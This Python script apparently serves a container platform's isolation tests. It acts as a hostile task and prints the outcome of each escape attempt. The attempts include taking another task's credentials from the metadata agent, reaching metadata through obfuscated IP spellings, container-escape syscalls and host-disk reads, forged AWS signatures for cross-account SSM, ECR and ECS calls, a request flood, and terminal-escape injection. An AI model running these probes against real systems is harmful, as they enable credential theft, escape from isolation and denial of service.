#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What a hostile program does inside a task: it tries each way out that test/attack.sh names in its
environment, and prints one line for each: `NAME: OUTCOME`. Runs in a container, without any package."""

import base64
import ctypes
import datetime
import hashlib
import hmac
import http.client
import json
import os
import socket
import struct
import sys
import time
import urllib.error
import urllib.request
import uuid

AGENT = "http://169.254.170.2"
SECONDS = 3

# Signatures that say all that one says, and are of nobody: the agent lets these pass to the platform.
SCOPE = "AKIA0000000000000000/20260101/us-east-1/ecs/aws4_request"
NOBODYS = {
    "X-Amz-Date": "20260101T000000Z",
    "Authorization": f"AWS4-HMAC-SHA256 Credential={SCOPE}, SignedHeaders=host;x-amz-date, Signature={'0' * 64}",
}
NOBODYS_QUERY = (
    f"X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={SCOPE.replace('/', '%2F')}&X-Amz-Date=20260101T000000Z"
    f"&X-Amz-Expires=60&X-Amz-SignedHeaders=host&X-Amz-Signature={'0' * 64}"
)


def say(name, outcome):
    print(f"{name}: {outcome}", flush=True)


def get(url, headers=None):
    """The status and text of an answer, or the error's name."""
    try:
        request = urllib.request.Request(url, headers=headers or {})
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
        with opener.open(request, timeout=SECONDS) as answer:
            return answer.status, answer.read().decode("utf-8", "replace")
    except urllib.error.HTTPError as e:
        return e.code, e.read().decode("utf-8", "replace")
    except OSError as e:
        return 0, type(e).__name__


def reach(name, host, port, path="/"):
    """Whether anything at all is behind an address."""
    try:
        with socket.create_connection((host, int(port)), timeout=SECONDS) as s:
            s.settimeout(SECONDS)
            s.sendall(f"GET {path} HTTP/1.0\r\nHost: {host}\r\n\r\n".encode())
            say(name, "reached " + s.recv(200).decode("utf-8", "replace").split("\r\n")[0])
    except OSError as e:
        say(name, f"nothing ({type(e).__name__})")


def own_gateway():
    """The host's address in this task's network."""
    with open("/proc/net/route", encoding="ascii") as f:
        for line in f.readlines()[1:]:
            words = line.split()
            if words[1] == "00000000":
                return socket.inet_ntoa(struct.pack("<I", int(words[2], 16)))
    return "0.0.0.0"


def credentials():
    status, text = get(AGENT + os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"])
    return json.loads(text) if status == 200 else {}


def signed(keys, service, target, body, headers=None, path="/"):
    """An AWS JSON call through the agent; returns the status and the error's or the answer's text."""
    now = datetime.datetime.now(datetime.timezone.utc)
    date = now.strftime("%Y%m%dT%H%M%SZ")
    scope = f"{date[:8]}/{os.environ['AWS_REGION']}/{service}/aws4_request"
    text = json.dumps(body)
    send = {
        "content-type": "application/x-amz-json-1.1",
        "host": "169.254.170.2",
        "x-amz-date": date,
        "x-amz-security-token": keys["Token"],
        "x-amz-target": target,
    }
    names = ";".join(sorted(send))
    lines = "".join(f"{n}:{send[n]}\n" for n in sorted(send))
    payload = hashlib.sha256(text.encode()).hexdigest()
    canonical = f"POST\n{path}\n\n{lines}\n{names}\n{payload}"
    to_sign = f"AWS4-HMAC-SHA256\n{date}\n{scope}\n{hashlib.sha256(canonical.encode()).hexdigest()}"
    key = ("AWS4" + keys["SecretAccessKey"]).encode()
    for part in scope.split("/"):
        key = hmac.new(key, part.encode(), hashlib.sha256).digest()
    signature = hmac.new(key, to_sign.encode(), hashlib.sha256).hexdigest()
    send["authorization"] = (
        f"AWS4-HMAC-SHA256 Credential={keys['AccessKeyId']}/{scope}, "
        f"SignedHeaders={names}, Signature={signature}"
    )
    send.update(headers or {})
    connection = http.client.HTTPConnection("169.254.170.2", 80, timeout=20)
    try:
        connection.request("POST", path, text, send)
        answer = connection.getresponse()
        return answer.status, answer.read().decode("utf-8", "replace")
    except OSError as e:
        return 0, type(e).__name__


def aws(name, keys, service, target, body, headers=None):
    status, text = signed(keys, service, target, body, headers)
    try:
        answer = json.loads(text)
    except ValueError:
        answer = {}
    code = answer.get("__type", "").split("#")[-1]
    value = answer.get("Parameter", {}).get("Value", "")
    say(name, f"{status} {code}{value}".strip())
    return answer


def others_credentials(keys):
    victim = os.environ["VICTIM_ID"]
    say("own credentials", "given" if keys.get("AccessKeyId") else "missing")
    status, text = get(f"{AGENT}/v2/credentials/{victim}")
    say("another's credentials by id", f"{status} {'KEYS' if 'AccessKeyId' in text else 'none'}")
    status, text = get(f"{AGENT}/v1/credentials?id={victim}")
    say("another's credentials by query", f"{status} {'KEYS' if 'AccessKeyId' in text else 'none'}")
    forged = {"X-Forwarded-For": os.environ["VICTIM_IP"], "Forwarded": "for=" + os.environ["VICTIM_IP"]}
    status, text = get(f"{AGENT}/v2/credentials/{victim}", forged)
    say("another's credentials by header", f"{status} {'KEYS' if 'AccessKeyId' in text else 'none'}")
    for port in ("80", os.environ["AGENT_PORT"]):
        reach(f"another's listener, port {port}", os.environ["VICTIM_GATEWAY"], port, f"/v2/credentials/{victim}")
    reach("own listener past the door", own_gateway(), os.environ["AGENT_PORT"], "/")
    found = throttled = 0
    begin = time.monotonic()
    for _ in range(400):
        status, text = get(f"{AGENT}/v2/credentials/{uuid.uuid4()}")
        found += "AccessKeyId" in text
        throttled += status == 429
    seconds = max(time.monotonic() - begin, 0.001)
    say("guessing credentials", f"{found} found, {'throttled' if throttled else 'free'}")
    print(f"guesses answered a second: {(400 - throttled) / seconds:.0f}", flush=True)
    for _ in range(40):
        status, _ = get(AGENT + os.environ["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"])
        if status == 200:
            break
        time.sleep(0.1)
    say("own credentials after it", "given" if status == 200 else f"status {status}")


def spellings(address):
    """An address of IPv4 in each way that the C library reads one; the last two are of IPv6."""
    a, b, c, d = (int(part) for part in address.split("."))
    whole = a << 24 | b << 16 | c << 8 | d
    return [
        address,
        str(whole),
        hex(whole),
        f"0{whole:o}",
        f"{a:#x}.{b:#x}.{c:#x}.{d:#x}",
        f"0{a:o}.0{b:o}.0{c:o}.0{d:o}",
        f"{a}.{b}.{c << 8 | d}",
        f"::ffff:{address}",
        f"::ffff:{whole >> 16:x}:{whole & 0xFFFF:x}",
    ]


def neighbours():
    time.sleep(2)  # until the side container listens
    reach("another's unpublished port", os.environ["VICTIM_IP"], 8000)
    reach("own side container", "side", 8000)
    for spelled in spellings("169.254.169.254") + ["fd00:ec2::254"]:
        reach(f"instance metadata as {spelled}", spelled, 80)
    for spelled in spellings(os.environ["VICTIM_IP"]):
        reach(f"another's unpublished port as {spelled}", spelled, 8000)
    for spelled in spellings("169.254.170.2")[:-2]:
        reach(f"the agent as {spelled}", spelled, 80)
    for host in (own_gateway(), os.environ["VICTIM_GATEWAY"], os.environ["HOST_IP"], "127.0.0.1"):
        reach(f"the platform at {host}", host, os.environ["PLATFORM_PORT"])
        reach(f"a service of the host at {host}", host, os.environ["HOST_SERVICE"])
        for port in ("2375", "2376"):
            reach(f"the engine at {host}:{port}", host, port)


def sockets():
    paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", os.environ["ADMIN_SOCKET"]]
    for path in paths:
        say(f"socket {os.path.basename(path)}", "there" if os.path.exists(path) else "absent")
    with open("/proc/net/unix", encoding="ascii", errors="replace") as f:
        names = [line.split()[-1] for line in f if "docker" in line or "containerd" in line or "admin.sock" in line]
    say("sockets of the host in /proc/net/unix", names or "absent")


def confinement():
    with open("/proc/self/status", encoding="ascii") as f:
        status = dict(line.rstrip("\n").split(":\t", 1) for line in f if ":\t" in line)
    say("no new privileges", status.get("NoNewPrivs", "?"))
    say("seccomp", status.get("Seccomp", "?"))
    bounding = int(status["CapBnd"], 16)
    for name, bit in (("SYS_ADMIN", 21), ("NET_RAW", 13), ("NET_ADMIN", 12), ("SYS_PTRACE", 19), ("SYS_MODULE", 16)):
        say(f"capability {name}", "had" if bounding >> bit & 1 else "absent")
    libc = ctypes.CDLL(None, use_errno=True)
    say("mount", "done" if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 else "refused")
    say("unshare a user namespace", "done" if libc.unshare(0x10000000) == 0 else "refused")
    for name, path in (
        ("write a kernel parameter", "/proc/sys/kernel/core_pattern"),
        ("write sysrq", "/proc/sysrq-trigger"),
        ("write cgroups", "/sys/fs/cgroup/cgroup.procs"),
    ):
        try:
            with open(path, "w", encoding="ascii"):
                say(name, "opened")
        except OSError:
            say(name, "refused")
    try:
        with open("/proc/kcore", "rb") as f:
            say("read the kernel's memory", "read" if f.read(4) else "empty")
    except OSError:
        say("read the kernel's memory", "refused")
    try:
        socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
        say("raw socket", "opened")
    except OSError:
        say("raw socket", "refused")
    try:
        os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0))
        with open("/tmp/disk", "rb") as f:
            f.read(1)
        say("a disk of the host", "read")
    except OSError:
        say("a disk of the host", "refused")


def post(path, headers, body):
    connection = http.client.HTTPConnection("169.254.170.2", 80, timeout=20)
    try:
        connection.request("POST", path, body, headers)
        return connection.getresponse().status
    except OSError as e:
        return type(e).__name__


def unsigned(ssm):
    """The calls that the platform answers without a signature, each behind what looks like one."""
    local = "127.0.0.1:" + os.environ["PLATFORM_PORT"]
    register = {"Host": local, "Content-Type": "application/x-amz-json-1.1", "X-Amz-Target": ssm + "RegisterManagedInstance"}
    claim = json.dumps({"ActivationId": str(uuid.uuid4()), "ActivationCode": "A" * 20})
    identity = {"Host": local, "Content-Type": "application/x-www-form-urlencoded"}
    form = "Action=AssumeRoleWithWebIdentity&Version=2011-06-15&RoleArn=arn:aws:iam::1:role/r&RoleSessionName=s&WebIdentityToken=t"
    for what, headers, body in (("registering as a machine", register, claim), ("a web identity", identity, form)):
        for how, path, more in (
            ("unsigned", "/", {}),
            ("a signature's name", "/?X-Amz-Signature=1", {}),
            ("a name in a name", "/?aX-Amz-Signature=1", {}),
            ("nobody's signature", "/", NOBODYS),
            ("nobody's query", "/?" + NOBODYS_QUERY, {}),
        ):
            say(f"{what}, {how}", post(path, {**headers, **more}, body))


def platform(keys):
    if not keys:
        say("platform", "no credentials")
        return
    stranger = os.environ["STRANGER"]
    region = os.environ["AWS_REGION"]
    ssm, ecs, ecr = "AmazonSSM.", "AmazonEC2ContainerServiceV20141113.", "AmazonEC2ContainerRegistry_V20150921."
    aws("own parameter", keys, "ssm", ssm + "GetParameter", {"Name": "/attack/own", "WithDecryption": True})
    aws("a parameter of its account that it may not read", keys, "ssm", ssm + "GetParameter", {"Name": "/attack/other"})
    aws(
        "a parameter of another account",
        keys,
        "ssm",
        ssm + "GetParameter",
        {"Name": f"arn:aws:ssm:{region}:{stranger}:parameter/attack/own", "WithDecryption": True},
    )
    image = {"repositoryName": "attack/secret", "registryId": stranger, "imageIds": [{"imageTag": "1"}]}
    aws("a repository of another account", keys, "ecr", ecr + "BatchGetImage", image)
    aws("its images", keys, "ecr", ecr + "ListImages", {"repositoryName": "attack/secret", "registryId": stranger})
    own = {"repositoryName": "attack/own", "imageIds": [{"imageTag": "1"}]}
    aws("a repository of its own account", keys, "ecr", ecr + "BatchGetImage", own)
    aws("its own images", keys, "ecr", ecr + "ListImages", {"repositoryName": "attack/own"})
    token = aws("a token of the registry", keys, "ecr", ecr + "GetAuthorizationToken", {})
    password = (token.get("authorizationData") or [{}])[0].get("authorizationToken", "")
    for name, path in (
        ("a blob of another account", f"/v2/{stranger}/attack/secret/manifests/1"),
        ("mounting a blob of another account", f"/v2/attack/own/blobs/uploads/?mount=sha256:{'0' * 64}&from={stranger}/attack/secret"),
    ):
        status, text = get(AGENT + path, {"Authorization": "Basic " + password})
        mark = "&" if "?" in path else "?"
        again, _ = get(AGENT + path + mark + NOBODYS_QUERY)
        say(name, f"{status} {again}")
    unsigned(ssm)
    cluster = {"cluster": "attack"}
    stop = {"cluster": "attack", "task": os.environ["VICTIM_TASK"], "status": "STOPPED"}
    aws("an allowed call of ECS", keys, "ecs", ecs + "ListTasks", cluster)
    forged = {"X-Forwarded-For": "127.0.0.1", "X-Holdfast-Task": os.environ["VICTIM_TASK"]}
    for operation, body in (
        ("RegisterContainerInstance", cluster),
        ("DiscoverPollEndpoint", cluster),
        ("SubmitTaskStateChange", stop),
        ("SubmitContainerStateChange", stop),
        ("SubmitAttachmentStateChanges", {"cluster": "attack", "attachments": []}),
    ):
        aws(operation, keys, "ecs", ecs + operation, body)
        aws(operation + " with headers", keys, "ecs", ecs + operation, body, forged)
    for path in ("/acs/ws", "/acs/host", "/tacs/ws", "/_holdfast/health", "/status", "/credentials"):
        upgrade = {
            **NOBODYS,
            "Connection": "Upgrade",
            "Upgrade": "websocket",
            "Sec-WebSocket-Version": "13",
            "Sec-WebSocket-Key": base64.b64encode(struct.pack("<QQ", 1, 2)).decode(),
        }
        say("through the agent: " + path, get(AGENT + path, upgrade)[0])


def flood():
    """Many slow and large requests at once; the agent must live, and serve others."""
    open_ones = []
    for i in range(300):
        try:
            s = socket.create_connection(("169.254.170.2", 80), timeout=SECONDS)
            size = 2 * 1024 * 1024 if i % 2 else 16 * 1024 * 1024
            lines = "".join(f"{n}: {v}\r\n" for n, v in NOBODYS.items())
            head = f"POST / HTTP/1.1\r\nHost: x\r\n{lines}Content-Length: {size}\r\n\r\n"
            s.sendall(head.encode() + b"x" * 60000)
            open_ones.append(s)
        except OSError:
            break
    say("flood", "sent")
    time.sleep(8)
    for s in open_ones:
        s.close()


def words():
    sys.stdout.write("\x1b[2J\x1b]0;owned\x07\x9b31m \u202egnp.exe <script>alert(1)</script>\rforged: line\r\n")
    sys.stdout.flush()


def main():
    what = sys.argv[1] if len(sys.argv) > 1 else "all"
    if what == "words":
        words()
        return
    keys = credentials()
    if what == "flood":
        flood()
        return
    confinement()
    sockets()
    neighbours()
    platform(keys)
    others_credentials(keys)
    say("end", "of attack")


main()
